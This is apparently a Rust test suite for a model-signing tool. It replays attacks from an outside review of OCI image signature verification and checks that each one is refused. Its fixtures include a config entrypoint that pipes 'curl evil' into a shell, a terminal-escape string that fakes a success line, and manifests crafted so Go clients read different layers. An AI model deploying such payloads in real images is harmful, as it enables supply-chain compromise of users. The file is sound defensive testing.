//! The attacks an outside review made work against OCI images (issue 20), each replayed against
//! the real binary: on Debian's `docker-registry` (Distribution 2.8) where it can show them, on
//! `tests/oci/fake_registry.py` for what it cannot (another origin for uploads, hostile
//! signature lists, slow answers, a lying Content-Type).
//!
//! * a manifest that Go clients read differently (case-folded keys), re-pushed under the tag with
//!   the attached signature copied to its digest;
//! * a single-file model (`config.json`) replaced by a manifest-shaped file;
//! * layers reordered, their media types or annotations changed, a config left unsigned;
//! * registry credentials sent to the host an upload `Location` names;
//! * discovery that fetched every candidate (up to 4 GiB) before checking any, with no overall
//!   deadline;
//! * an index pinned by digest with `--platform`, `--platform` on a single manifest;
//! * a bundle too large for discovery attached anyway.
//!
//! Needs the tools `tests/oci.rs` needs; skips without them unless `MS_REQUIRE_PEERS=1`.

mod common;
use common::measure::ms_with_peak_rss;
use common::oci::*;
use common::*;

use std::path::Path;
use std::time::{Duration, Instant};

const OCI_MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";

fn json(bytes: &[u8]) -> serde_json::Value {
    serde_json::from_slice(bytes).expect("JSON")
}

fn digest_of_sign(r: &Run) -> String {
    serde_json::from_str::<serde_json::Value>(&r.stdout).expect("sign JSON")["oci_manifest"]
        .as_str()
        .expect("oci_manifest")
        .trim_start_matches("sha256:")
        .to_string()
}

/// The attack that made a tampered image verify: `{"layers":[GOOD],"Layers":[EVIL]}` is GOOD to a
/// reader that ignores unknown keys and EVIL to every Go client (oras, containerd, the registry
/// itself). Re-pushed under the tag, with the attached signature copied to the new digest, it
/// must not verify: neither discovered nor with the signature file.
#[test]
fn a_manifest_that_go_clients_read_differently_does_not_verify() {
    let Some(reg) = Registry::start(false) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    reg.push(
        "models/fold:v1",
        &m.config_blob,
        &[&m.weights, &m.tokenizer],
    );
    let target = reg.oci("models/fold:v1");
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("fold.sig");
    let r = sign_key_oci(
        &key,
        &sig,
        &target,
        &["--plain-http", "--attach", "--output", "json"],
    );
    r.assert_success();
    let good_digest = digest_of_sign(&r);

    let good = reg.manifest_bytes("models/fold:v1");
    let evil_data = pattern(3000, 99);
    let evil = reg.put_blob("models/fold", &evil_data);
    let evil_layer = format!(
        r#"{{"mediaType":"application/vnd.oci.image.layer.v1.tar","digest":"{evil}","size":{},"annotations":{{"org.opencontainers.image.title":"weights.bin"}}}}"#,
        evil_data.len()
    );
    // Each spelling Go folds onto a field of ours: ASCII case, `ſ` for s, and the same inside a
    // layer (`Digest`).
    // Compact JSON, so that the edits below find their spots (oras writes `"key": value`).
    let text = serde_json::to_string(&json(&good)).unwrap();
    let trimmed = text.trim_end().strip_suffix('}').expect("a JSON object");
    let variants = [
        format!(r#"{trimmed},"Layers":[{evil_layer}]}}"#),
        format!(r#"{trimmed},"layerſ":[{evil_layer}]}}"#),
        text.replacen(
            r#""annotations":{"org.opencontainers.image.title":"weights.bin"}"#,
            &format!(
                r#""annotations":{{"org.opencontainers.image.title":"weights.bin"}},"Digest":"{evil}""#
            ),
            1,
        ),
    ];
    for (i, bad) in variants.iter().enumerate() {
        assert_ne!(bad.as_bytes(), &good[..], "variant {i} changed nothing");
        // The registry (Go) accepts it and serves it byte for byte.
        reg.put_manifest("models/fold:v1", bad.as_bytes(), OCI_MANIFEST);
        assert_eq!(reg.manifest_bytes("models/fold:v1"), bad.as_bytes());
        let new_digest = sha256_hex(bad.as_bytes());
        let sig_manifest = reg.manifest_bytes(&format!("models/fold:sha256-{good_digest}.sig"));
        reg.put_manifest(
            &format!("models/fold:sha256-{new_digest}.sig"),
            &sig_manifest,
            OCI_MANIFEST,
        );
        for with_file in [false, true] {
            let mut a = args![
                "verify",
                "key",
                "--public-key",
                &key.public_key,
                "--plain-http"
            ];
            if with_file {
                a.extend(args!["--signature", &sig]);
            }
            a.push(target.clone().into());
            assert_one_line_failure(&ms(a), &["Go clients"]);
        }
    }
}

/// The attack that made a replaced file verify: a single-file model `config.json`, signed as a
/// file in the basename form (the resource is named `config.json`, as the OMS text and the Go
/// port name it), replaced by a manifest-shaped JSON whose one layer is titled `config.json` and
/// carries the signed digest. The file's content chose how it was checked: its claims were
/// checked instead of its bytes. Now the path is a file, so the file is hashed.
#[test]
fn a_replaced_json_model_file_is_hashed_not_read_as_a_manifest() {
    let dir = tempdir();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let model_file = write_file(dir.path(), "config.json", "{\"hidden_size\": 8}\n");
    let signed = sha256_hex(&std::fs::read(&model_file).unwrap());
    let root = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(hex::decode(&signed).unwrap()))
    };
    let sig = dir.path().join("config.sig");
    common::craft::craft(
        &key,
        &serde_json::json!({
            "_type": "https://in-toto.io/Statement/v1",
            "subject": [{"name": "config.json", "digest": {"sha256": root}}],
            "predicateType": "https://model_signing/signature/v1.0",
            "predicate": {
                "serialization": {"method": "files", "hash_type": "sha256",
                                  "allow_symlinks": false, "ignore_paths": []},
                "resources": [{"name": "config.json", "algorithm": "sha256", "digest": signed}],
            },
        }),
        &sig,
    );
    verify_key(&model_file, &key, &sig, &[]).assert_success();
    std::fs::write(
        &model_file,
        format!(
            r#"{{"schemaVersion":2,"config":{{"mediaType":"x","digest":"sha256:{}","size":2}},"layers":[{{"mediaType":"x","digest":"sha256:{signed}","size":19,"annotations":{{"org.opencontainers.image.title":"config.json"}}}}]}}"#,
            "4".repeat(64)
        ),
    )
    .unwrap();
    let r = verify_key(&model_file, &key, &sig, &[]);
    r.assert_exit(1)
        .assert_stderr_contains("changed: config.json");
    // Only when the user says it is a manifest is it read as one; then it is what it claims to
    // be, an image whose one layer is the signed file.
    verify_key_oci(
        &key,
        &sig,
        &format!("oci-manifest:{}", model_file.display()),
        &[],
    )
    .assert_success();
}

/// What runtimes act on besides digests: the layers' order (they are applied in order), media
/// types and annotations (`io.deis.oras.content.unpack` makes oras unpack a layer). Our
/// signatures bind them; a signature without them (as rh-model-signing and the Go port write
/// it) verifies with a warning saying so.
#[test]
fn order_media_types_and_annotations_are_bound() {
    let Some(reg) = Registry::start(false) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    reg.push(
        "models/bind:v1",
        &m.config_blob,
        &[&m.weights, &m.tokenizer],
    );
    let target = reg.oci("models/bind:v1");
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("bind.sig");
    sign_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
    let st = statement_of(&sig);
    let w = st["predicate"]["resources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "weights.bin")
        .cloned()
        .unwrap();
    assert_eq!(w["annotations"]["oci"]["role"], "layer");
    assert_eq!(w["annotations"]["oci"]["index"], 0);
    assert!(w["mediaType"].is_string(), "{w}");
    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();

    let good = String::from_utf8(reg.manifest_bytes("models/bind:v1")).unwrap();
    let doc = json(good.as_bytes());
    let layers = doc["layers"].as_array().unwrap().clone();
    let with_layers = |l: Vec<serde_json::Value>| {
        let mut d = doc.clone();
        d["layers"] = serde_json::Value::Array(l);
        serde_json::to_vec(&d).unwrap()
    };
    let mut swapped = layers.clone();
    swapped.swap(0, 1);
    let mut retyped = layers.clone();
    retyped[0]["mediaType"] = "application/vnd.oci.image.layer.v1.tar+gzip".into();
    let mut unpacked = layers.clone();
    unpacked[0]["annotations"]["io.deis.oras.content.unpack"] = "true".into();
    for (raw, want) in [
        (
            with_layers(swapped),
            "role: expected layer 0, actual layer 1",
        ),
        (with_layers(retyped), "media type"),
        (with_layers(unpacked), "annotations"),
    ] {
        reg.put_manifest("models/bind:v1", &raw, OCI_MANIFEST);
        let r = verify_key_oci(&key, &sig, &target, &["--plain-http"]);
        r.assert_exit(1).assert_stderr_contains(want);
        assert!(!r.stderr.contains("panicked"));
    }

    // A signature that records names and digests only (here: of the pulled copy, which is what
    // rh-model-signing and the Go port sign for an image) verifies the image with a warning
    // that says what it does not bind, in the text and in the JSON report.
    reg.put_manifest("models/bind:v1", good.as_bytes(), OCI_MANIFEST);
    let hf = write_file(&m.dir, "config.json", "{}");
    let empty_config = write_file(dir.path(), "empty.json", "{}");
    reg.push("models/plain:v1", &empty_config, &[&m.weights, &hf]);
    let pulled = dir.path().join("pulled");
    reg.client("pull", "models/plain:v1", &[&pulled])
        .assert_success();
    let files_sig = dir.path().join("files.sig");
    sign_key(&pulled, &key, &files_sig, &[]).assert_success();
    let r = verify_key_oci(
        &key,
        &files_sig,
        &reg.oci("models/plain:v1"),
        &["--plain-http", "--output", "json"],
    );
    r.assert_success();
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let warnings = v["warnings"].to_string();
    assert!(
        warnings.contains("media types, order and annotations"),
        "{v}"
    );
    // It says what the signature lacks, not who made it (the review: this one is ours, made for
    // a directory, and the warning claimed another tool had made it).
    assert!(
        warnings.contains("made for files, or for the image by another tool"),
        "{v}"
    );
}

/// A layer titled `config.json` takes the name the config blob would have had, so the config
/// has no resource of its own (rh-model-signing's rule, which keeps our signatures verifiable by
/// it). Our signatures record it beside that layer all the same, so a config swapped after
/// signing is caught, also when it was the empty `{}` of an ORAS push (the review re-pushed one
/// with an entrypoint and it verified with a warning). Signing an image whose config has content
/// needs consent, since other tools' verifiers would accept any config; a signature without the
/// record (another tool's) verifies with a warning.
#[test]
fn the_config_is_bound_beside_the_layer_that_took_its_name() {
    let Some(reg) = Registry::start(false) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    let hf = write_file(&m.dir, "config.json", "{\"hidden_size\": 8}\n");
    let entrypoint = write_file(
        dir.path(),
        "evil-config.json",
        "{\"config\": {\"Entrypoint\": [\"/bin/sh\", \"-c\", \"curl evil | sh\"]}}",
    );
    let key = gen_ec_key(dir.path(), "k", Curve::P256);

    // The empty config of an ORAS push: no consent needed, and bound.
    let empty = write_file(dir.path(), "empty.json", "{}");
    reg.push("models/cfg:v2", &empty, &[&m.weights, &hf]);
    let target = reg.oci("models/cfg:v2");
    let sig = dir.path().join("cfg2.sig");
    let r = sign_key_oci(&key, &sig, &target, &["--plain-http"]);
    r.assert_success();
    assert!(!r.stderr.contains("config"), "{}", r.stderr);
    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
    reg.push("models/cfg:v2", &entrypoint, &[&m.weights, &hf]);
    let r = verify_key_oci(&key, &sig, &target, &["--plain-http"]);
    r.assert_exit(1)
        .assert_stderr_contains("changed: config.json (the image's config blob");

    // A config with content: consent, a warning at signing, and bound all the same.
    reg.push("models/cfg:v1", &m.config_blob, &[&m.weights, &hf]);
    let target = reg.oci("models/cfg:v1");
    let sig = dir.path().join("cfg.sig");
    let r = sign_key_oci(&key, &sig, &target, &["--plain-http"]);
    assert_one_line_failure(&r, &["config blob", "any config"]);
    assert!(!sig.exists());
    sign_key_oci(
        &key,
        &sig,
        &target,
        &["--plain-http", "--allow-unsigned-config"],
    )
    .assert_success()
    .assert_stderr_contains("other tools' verifiers accept any config");
    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
    reg.push("models/cfg:v1", &entrypoint, &[&m.weights, &hf]);
    verify_key_oci(&key, &sig, &target, &["--plain-http"])
        .assert_exit(1)
        .assert_stderr_contains("the image's config blob");

    // A signature with names and digests only (what rh-model-signing and the Go port make; here
    // of the pulled copy): the config is not checked, and the report says so.
    let pulled = dir.path().join("pulled");
    reg.client("pull", "models/cfg:v1", &[&pulled])
        .assert_success();
    let files_sig = dir.path().join("files.sig");
    sign_key(&pulled, &key, &files_sig, &[]).assert_success();
    let r = verify_key_oci(
        &key,
        &files_sig,
        &target,
        &["--plain-http", "--output", "json"],
    );
    r.assert_success();
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert!(v["warnings"].to_string().contains("not signed"), "{v}");
}

/// Registry credentials go to the registry's own origin only: the upload `Location` of a blob
/// may name a storage host (here 127.0.0.2, another origin), which gets the upload without the
/// `Authorization` header.
#[test]
fn credentials_never_go_to_another_origin() {
    let Some(fake) = Fake::start(&["--bearer", "u:secret-pass", "--foreign-uploads"]) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    fake.push(
        "private/c:v1",
        &m.config_blob,
        &[&m.weights],
        ("u", "secret-pass"),
    );
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("c.sig");
    let cfg = with_docker_config(dir.path(), &fake.host(), "u", "secret-pass");
    fake.clear_log();
    ms_env(
        &cfg,
        args![
            "sign",
            "key",
            "--private-key",
            &key.private_key,
            "--signature",
            &sig,
            "--plain-http",
            "--attach",
            &fake.oci("private/c:v1")
        ],
    )
    .assert_success();
    let log = fake.log();
    let foreign: Vec<&serde_json::Value> =
        log.iter().filter(|e| e["host"] == "127.0.0.2").collect();
    assert!(
        foreign.iter().any(|e| e["method"] == "PUT"),
        "the uploads went to the storage host: {log:?}"
    );
    for e in &foreign {
        assert_eq!(e["authorization"], false, "credentials sent to {e}");
    }
    // The registry itself did get them.
    assert!(
        log.iter()
            .any(|e| e["host"] == "127.0.0.1" && e["authorization"] == true),
        "{log:?}"
    );
}

/// Discovery before any signature is checked: 16 different bundles streaming 64 MiB each
/// (chunked: no length to refuse up front) are fetched one at a time and each read stops at the
/// cap (the old reader held them all: 1.06 GiB); the same bundle listed 16 times is fetched once.
#[test]
fn discovery_is_bounded_before_authentication() {
    let Some(fake) = Fake::start(&[]) else {
        return;
    };
    let dir = tempdir();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    for (repo, fetches) in [("hostile/sigs", 16), ("hostile/dupsigs", 1)] {
        fake.clear_log();
        let started = Instant::now();
        let (r, peak_kb) = ms_with_peak_rss(args![
            "verify",
            "key",
            "--public-key",
            &key.public_key,
            "--plain-http",
            &fake.oci(&format!("{repo}:v1"))
        ]);
        let took = started.elapsed();
        assert_one_line_failure(&r, &["none verifies", "byte limit"]);
        r.assert_stderr_contains(&format!("{fetches} signature(s)"));
        let blobs = fake
            .log()
            .iter()
            .filter(|e| e["path"].as_str().unwrap_or("").contains("/blobs/"))
            .count();
        assert_eq!(blobs, fetches, "{repo}");
        // Under two bundles' worth of the cap (8 MiB each), whatever the count: one at a time.
        assert!(peak_kb < 64 * 1024, "{repo}: peak RSS {peak_kb} KiB");
        eprintln!("{repo}: {fetches} fetches, peak RSS {peak_kb} KiB, {took:?}");
    }
}

/// Candidates are verified one at a time: the first that verifies ends the search, and later
/// ones are never fetched. Referrers are tried newest first by their `created` annotation,
/// which our referrers carry.
#[test]
fn candidates_are_fetched_one_at_a_time_newest_first() {
    let Some(fake) = Fake::start(&["--referrers"]) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    fake.push("models/order:v1", &m.config_blob, &[&m.weights], ("u", "p"));
    let target = fake.oci("models/order:v1");
    let k1 = gen_ec_key(dir.path(), "k1", Curve::P256);
    let k2 = gen_ec_key(dir.path(), "k2", Curve::P256);
    let s1 = dir.path().join("1.sig");
    let s2 = dir.path().join("2.sig");
    sign_key_oci(&k1, &s1, &target, &["--plain-http", "--attach"]).assert_success();
    // The annotation has second precision.
    std::thread::sleep(Duration::from_millis(1100));
    sign_key_oci(&k2, &s2, &target, &["--plain-http", "--attach"]).assert_success();
    let bundle_fetches = |f: &Fake| {
        f.log()
            .iter()
            .filter(|e| {
                let p = e["path"].as_str().unwrap_or("");
                p.contains("/blobs/")
            })
            .count()
    };
    for (key, want_fetches) in [(&k2, 1), (&k1, 2)] {
        fake.clear_log();
        let r = verify_key_attached(key, &target, &["--plain-http", "--output", "json"]);
        r.assert_success();
        assert_eq!(bundle_fetches(&fake), want_fetches);
    }
    // Every referrer we push says when it was made.
    let r = fake.log();
    assert!(!r.is_empty());
}

/// One overall deadline for the registry requests of a command (`--registry-timeout`), on top
/// of each request's own limit.
#[test]
fn the_registry_requests_share_one_deadline() {
    let Some(fake) = Fake::start(&[]) else {
        return;
    };
    let dir = tempdir();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let started = Instant::now();
    let r = verify_key_oci(
        &key,
        &dir.path().join("none.sig"),
        &fake.oci("hostile/slow:v1"),
        &["--plain-http", "--registry-timeout", "1"],
    );
    let took = started.elapsed();
    // The signature file is read first and does not exist; discovery is what is timed.
    assert_one_line_failure(&r, &[]);
    let r = ms(args![
        "verify",
        "key",
        "--public-key",
        &key.public_key,
        "--plain-http",
        "--registry-timeout",
        "1",
        &fake.oci("hostile/slow:v1")
    ]);
    let took2 = started.elapsed() - took;
    assert_one_line_failure(&r, &["1 s allowed"]);
    assert!(took2 < Duration::from_millis(2500), "{took2:?}");
}

/// A registry whose `Content-Type` says index for an image manifest (clients such as
/// containerd pick the parser from it) is refused.
#[test]
fn a_content_type_that_disagrees_with_the_document_is_refused() {
    let Some(fake) = Fake::start(&[]) else {
        return;
    };
    let dir = tempdir();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("ct.sig");
    let r = sign_key_oci(&key, &sig, &fake.oci("hostile/ctype:v1"), &["--plain-http"]);
    assert_one_line_failure(&r, &["served as", "index"]);
    assert!(!sig.exists());
}

/// `--platform` with an index pinned by digest verifies the platform's manifest against the
/// digest the index gives it (it was compared with the index's own digest), and `--platform` on
/// a single manifest is an error rather than silently ignored.
#[test]
fn platforms_by_digest_and_on_a_single_manifest() {
    let Some(reg) = Registry::start(false) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    reg.push("models/multi:amd64", &m.config_blob, &[&m.weights]);
    let image = reg.manifest_bytes("models/multi:amd64");
    let index = format!(
        r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#,
        sha256_hex(&image),
        image.len()
    );
    reg.put_manifest(
        "models/multi:latest",
        index.as_bytes(),
        "application/vnd.oci.image.index.v1+json",
    );
    let pinned = format!(
        "{}@sha256:{}",
        reg.oci("models/multi"),
        sha256_hex(index.as_bytes())
    );
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("multi.sig");
    sign_key_oci(
        &key,
        &sig,
        &pinned,
        &["--plain-http", "--platform", "linux/amd64"],
    )
    .assert_success();
    verify_key_oci(
        &key,
        &sig,
        &pinned,
        &["--plain-http", "--platform", "linux/amd64"],
    )
    .assert_success();
    verify_key_oci(
        &key,
        &sig,
        &reg.oci("models/multi:amd64"),
        &["--plain-http"],
    )
    .assert_success();
    let r = verify_key_oci(
        &key,
        &sig,
        &reg.oci("models/multi:amd64"),
        &["--plain-http", "--platform", "linux/arm64"],
    );
    assert_one_line_failure(&r, &["single image manifest", "linux/arm64"]);

    // The review's attack: EVIL listed first under the same platform spelled another way.
    // containerd normalises `x86_64` to `amd64` (and `amd64/v1`, `Linux/amd64`) and takes the
    // first; oras-go takes any variant when none is asked. GOOD verified, EVIL ran.
    std::fs::write(&m.weights, pattern(3000, 66)).unwrap();
    reg.push("models/multi:evil", &m.config_blob, &[&m.weights]);
    let evil = reg.manifest_bytes("models/multi:evil");
    // The second review's: containerd falls back from amd64 to 386 and to an entry without a
    // platform when GOOD is a variant it does not take; Go lowercases `İ` to `i`.
    for (spelling, good_platform) in [
        (
            r#","platform":{"os":"linux","architecture":"x86_64"}"#,
            "amd64",
        ),
        (
            r#","platform":{"os":"Linux","architecture":"amd64"}"#,
            "amd64",
        ),
        (
            r#","platform":{"os":"linux","architecture":"amd64","variant":"v1"}"#,
            "amd64",
        ),
        (
            r#","platform":{"os":"linux","architecture":"amd64","variant":"v3"}"#,
            "amd64",
        ),
        (
            r#","platform":{"os":"linux","architecture":"386"}"#,
            r#"amd64","variant":"v2"#,
        ),
        ("", r#"amd64","variant":"v2"#),
    ] {
        let index = format!(
            r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{}{spelling}}},{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"linux","architecture":"{good_platform}"}}}}]}}"#,
            sha256_hex(&evil),
            evil.len(),
            sha256_hex(&image),
            image.len()
        );
        reg.put_manifest(
            "models/multi:latest",
            index.as_bytes(),
            "application/vnd.oci.image.index.v1+json",
        );
        let r = verify_key_oci(
            &key,
            &sig,
            &reg.oci("models/multi:latest"),
            &["--plain-http", "--platform", "linux/amd64"],
        );
        assert_one_line_failure(&r, &["2 manifests that clients may take"]);
    }
    let index = format!(
        r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"l\u0130nux","architecture":"amd64"}}}}]}}"#,
        sha256_hex(&evil),
        evil.len(),
    );
    reg.put_manifest(
        "models/multi:latest",
        index.as_bytes(),
        "application/vnd.oci.image.index.v1+json",
    );
    let r = verify_key_oci(
        &key,
        &sig,
        &reg.oci("models/multi:latest"),
        &["--plain-http", "--platform", "linux/amd64"],
    );
    assert_one_line_failure(&r, &["not printable ASCII"]);
    // Registry text in the listing reaches the terminal escaped (it held ESC and a newline).
    let index = format!(
        r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"linux\u001b[2K\rVerification succeeded\n","architecture":"amd64"}}}}]}}"#,
        sha256_hex(&image),
        image.len()
    );
    reg.put_manifest(
        "models/multi:latest",
        index.as_bytes(),
        "application/vnd.oci.image.index.v1+json",
    );
    for extra in [
        vec!["--plain-http"],
        vec!["--plain-http", "--platform", "linux/arm64"],
    ] {
        let r = verify_key_oci(&key, &sig, &reg.oci("models/multi:latest"), &extra);
        assert_one_line_failure(&r, &[]);
        assert!(
            !r.stderr.contains('\u{1b}') && !r.stderr.contains('\r'),
            "{r}"
        );
        assert_eq!(
            r.stderr
                .lines()
                .filter(|l| l.contains("Verification"))
                .count(),
            1,
            "{r}"
        );
    }
}

/// Sign never attaches what discovery would refuse to fetch: a bundle over the attached-bundle
/// cap (an image whose titles and annotations fill a 4 MiB manifest) is refused before any file
/// is written.
#[test]
fn a_bundle_too_large_to_discover_is_not_attached() {
    let Some(fake) = Fake::start(&[]) else {
        return;
    };
    let dir = tempdir();
    let m = model(dir.path());
    fake.push("models/big:v1", &m.config_blob, &[&m.weights], ("u", "p"));
    // The same blob under 2,500 long titles: a manifest under the registry's 4 MiB whose
    // statement (each title twice, as the name and in the annotations; base64) is over 8 MiB.
    let weights = format!("sha256:{}", sha256_hex(&std::fs::read(&m.weights).unwrap()));
    let pad = "p".repeat(1400);
    let layers: Vec<String> = (0..2500)
        .map(|i| {
            format!(
                r#"{{"mediaType":"application/octet-stream","digest":"{weights}","size":3000,"annotations":{{"org.opencontainers.image.title":"{i:04}-{pad}"}}}}"#
            )
        })
        .collect();
    let manifest = format!(
        r#"{{"schemaVersion":2,"mediaType":"{OCI_MANIFEST}","config":{{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:{}","size":2}},"layers":[{}]}}"#,
        sha256_hex(b"{}"),
        layers.join(",")
    );
    assert!(manifest.len() < 4 << 20, "{}", manifest.len());
    let file = write_file(dir.path(), "big.json", &manifest);
    let mut cmd = std::process::Command::new(&fake.oras_py);
    cmd.arg(repo_root().join("tests/oci/push.py"))
        .args(["putmanifest", &fake.host(), "models/big:v2"])
        .arg(&file)
        .args(["--user", "u", "--password", "p"]);
    run(&mut cmd).assert_success();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    let sig = dir.path().join("big.sig");
    let target = fake.oci("models/big:v2");
    let r = sign_key_oci(&key, &sig, &target, &["--plain-http", "--attach"]);
    assert_one_line_failure(&r, &["cannot be attached"]);
    assert!(!sig.exists());
    // Without --attach the file is written (a file signature has the 256 MiB bundle cap) and
    // verifies.
    sign_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
    assert!(std::fs::metadata(&sig).unwrap().len() > 8 << 20);
    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
    let _ = Path::new("");
}

/// Every body a registry sends is read with a cap, whatever it claims: a manifest of 10,001
/// layers, an error response and a token response that never end. Each fails with one line,
/// quickly, in bounded memory.
#[test]
fn registry_answers_are_bounded_before_authentication() {
    let Some(fake) = Fake::start(&[]) else {
        return;
    };
    let dir = tempdir();
    let key = gen_ec_key(dir.path(), "k", Curve::P256);
    for (repo, want) in [
        ("hostile/layers", "10001 layers, over the limit of 10000"),
        ("hostile/errorflood", "500"),
        ("hostile/tokenflood", "byte limit"),
    ] {
        let started = Instant::now();
        let (r, peak_kb) = ms_with_peak_rss(args![
            "verify",
            "key",
            "--public-key",
            &key.public_key,
            "--plain-http",
            &fake.oci(&format!("{repo}:v1"))
        ]);
        let took = started.elapsed();
        assert_one_line_failure(&r, &[want]);
        assert!(peak_kb < 100 * 1024, "{repo}: peak RSS {peak_kb} KiB");
        assert!(took < Duration::from_secs(20), "{repo}: {took:?}");
        eprintln!("{repo}: peak RSS {peak_kb} KiB, {took:?}");
    }
}
